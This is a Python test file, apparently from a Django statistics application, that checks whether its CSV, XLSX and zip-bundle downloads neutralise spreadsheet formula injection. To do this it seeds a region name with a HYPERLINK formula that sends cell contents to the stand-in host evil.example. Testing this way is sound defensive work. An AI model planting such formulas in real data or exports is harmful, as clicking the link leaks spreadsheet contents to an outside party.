"""CSV injection in the statistics downloads: a label that would run as a formula (seeded in the
safety region's name, which labels the region table) is neutralised in the CSV, the XLSX and the
publication bundle, and the figures stay numbers."""

import csv
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from samen.organisations.models import SafetyRegion
from samen.signalling.services import PersonInput

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


def _query() -> str:
    """The records are made today: the running year, offered as a provisional release period,
    taken in Amsterdam when the test asks (not at import: a run may cross New Year)."""
    return f"period={timezone.localdate().year}"


@pytest.fixture(autouse=True)
def provisional_year(settings):
    settings.SAMEN_STATISTICS_PERIODS = {"provisional": True}


def _seed(record) -> None:
    for _ in range(12):
        record(forms=["sexual"], person=PersonInput(gender="female", age_band="23-29"))
    SafetyRegion.objects.filter(code="VR09").update(name=HYPERLINK)


def _csv_cells(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _no_formula(cells: list[object]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert any(c.startswith("'" + HYPERLINK) for c in texts)
    assert not any(c.startswith(("=", "@")) for c in texts)


def _sheet_cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:  # openpyxl reads a formula cell as data type "f"
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [c for s in workbook.worksheets for row in s.iter_rows(values_only=True) for c in row]


def test_the_statistics_csv_neutralises_formulas(web_for, record):
    _seed(record)
    client = web_for("demo-registrar")
    body = client.get(f"/statistiek/?{_query()}&format=csv&table=year-region").content.decode()
    _no_formula(_csv_cells(body))


def test_the_statistics_xlsx_neutralises_formulas_and_keeps_numbers(web_for, record):
    _seed(record)
    response = web_for("demo-registrar").get(f"/statistiek/?{_query()}&format=xlsx")
    cells = _sheet_cells(response.content)
    _no_formula(cells)
    assert any(isinstance(c, int) and c >= 10 for c in cells)


def test_the_publication_bundle_neutralises_formulas(web_for, record):
    _seed(record)
    response = web_for("demo-registrar").get(f"/statistiek/?{_query()}&format=zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    checked = 0
    for name in archive.namelist():
        if name.endswith(".csv") and "year-region" in name:
            _no_formula(_csv_cells(archive.read(name).decode()))
            checked += 1
        elif name.endswith(".xlsx"):
            _no_formula(_sheet_cells(archive.read(name)))
            checked += 1
    assert checked == 4  # two languages, CSV and XLSX each
